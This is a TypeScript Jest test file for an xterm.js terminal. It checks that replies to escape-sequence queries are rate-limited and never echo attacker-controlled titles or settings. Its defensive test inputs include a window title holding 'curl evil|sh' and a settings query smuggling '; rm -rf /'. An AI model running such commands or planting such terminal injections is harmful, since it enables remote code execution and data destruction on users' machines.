import { Terminal } from '@xterm/xterm';
import { limitQueryReplies, ReplyRateLimiter } from './query-replies';

/** What the terminal replies to the output of a program. */
async function typedAt(output: string, guarded = true): Promise<string> {
  const terminal = new Terminal({ allowProposedApi: true, windowOptions: { getWinTitle: true } });
  if (guarded) limitQueryReplies(terminal, new ReplyRateLimiter(() => 0));
  let typed = '';
  terminal.onData(data => (typed += data));
  await new Promise<void>(resolve => terminal.write(output, resolve));
  terminal.dispose();
  return typed;
}

const count = (text: string, part: string): number => text.split(part).length - 1;

describe('security: replies of the terminal to a program', () => {
  it('never contain a title that the program has set', async () => {
    for (const report of ['\x1b[21t', '\x1b[20t', '\x1b[14t', '\x1b[18t', '\x1b[19t', '\x1b[11t']) {
      expect(await typedAt(`\x1b]0;curl evil|sh\x07${report}`)).toBe('');
    }
  });

  it('answer what editors ask', async () => {
    expect(await typedAt('\x1b[c')).toBe('\x1b[?1;2c');
    expect(await typedAt('\x1bZ')).toBe('\x1b[?1;2c');
    expect(await typedAt('\x1b[6n')).toBe('\x1b[1;1R');
    expect(await typedAt('\x1bP$qm\x1b\\')).toBe('\x1bP1$r0m\x1b\\');
    expect(await typedAt('\x1b[?2004$p')).toBe('\x1b[?2004;2$y');
  });

  it.each([
    ['device attributes', '\x1b[c', 'c'],
    ['secondary attributes', '\x1b[>c', 'c'],
    ['status', '\x1b[5n', 'n'],
    ['positions', '\x1b[6n', 'R'],
    ['private positions', '\x1b[?6n', 'R'],
    ['modes', '\x1b[4$p', 'y'],
    ['private modes', '\x1b[?7$p', 'y'],
    ['settings', '\x1bP$qr\x1b\\', '\x1bP'],
    ['unknown settings', '\x1bP$qzzz\x1b\\', '\x1bP'],
  ])('are limited when a file asks for %s 10 000 times', async (_, query, mark) => {
    const flood = query.repeat(10_000);
    expect(count(await typedAt(flood), mark)).toBe(50);
    expect(count(await typedAt(flood, false), mark)).toBe(10_000);
  });

  it('are limited if a file asks for its identity 10 000 times', async () => {
    expect(count(await typedAt('\x1bZ'.repeat(10_000)), 'c')).toBe(50);
  });

  it('share one limit among all kinds of queries', async () => {
    expect(count(await typedAt('\x1b[c\x1b[6n'.repeat(1000)), '\x1b[')).toBe(50);
  });

  it('do not repeat an unknown setting', async () => {
    expect(await typedAt('\x1bP$q; rm -rf /\r\x1b\\')).toBe('\x1bP0$r\x1b\\');
  });

  it('are empty for answerback, macro and checksum queries', async () => {
    expect(await typedAt('\x05\x1bP1;0;0!zrm\x1b\\\x1b[1*z\x1b[1;1;1;1;1;1*y')).toBe('');
  });
});

describe('ReplyRateLimiter', () => {
  it('allows the queries of an editor, but not a flood', () => {
    const budget = new ReplyRateLimiter(() => 0);
    const answered = Array.from({ length: 100_000 }, () => budget.take()).filter(Boolean);
    expect(answered).toHaveLength(50);
  });

  it('refills each second, and does not accumulate while idle', () => {
    let nowMs = 0;
    const budget = new ReplyRateLimiter(() => nowMs);
    const answers = () => Array.from({ length: 1000 }, () => budget.take()).filter(Boolean).length;
    answers();
    nowMs = 100;
    expect(answers()).toBe(5);
    nowMs = 3_600_000;
    expect(answers()).toBe(50);
  });
});
